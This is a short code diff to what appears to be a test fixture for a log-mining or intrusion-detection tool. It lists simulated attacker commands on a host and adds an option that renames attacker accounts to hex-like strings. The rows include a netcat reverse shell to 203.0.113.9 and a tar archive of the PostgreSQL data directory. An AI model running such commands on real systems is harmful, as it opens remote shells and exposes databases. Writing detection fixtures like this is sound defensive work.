@@ -60,6 +60,9 @@ const T = WWW
       ['pg-main', 'omar', '/usr/bin/tar', 'tar czf /home/omar/db.tgz /var/lib/postgresql'],
       ['pg-main', 'omar', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444'],
     ];
+// HEX_NAMES=1 (review13): the attacker's own names made of 8 or more hex digits, which the
+// template miner masks as ids (`backdoor` → `cafe1234beef`, `svc` → `a1b2c3d4e5`)
+if (process.env.HEX_NAMES) for (const x of T) x[3] = x[3].replace(/backdoor/g, 'cafe1234beef').replace(/ svc$/, ' a1b2c3d4e5');
 T.forEach(([host, who, exe, cmd, o], i) =>
   ATTACKS.push({
     id: `r7-${i}`,
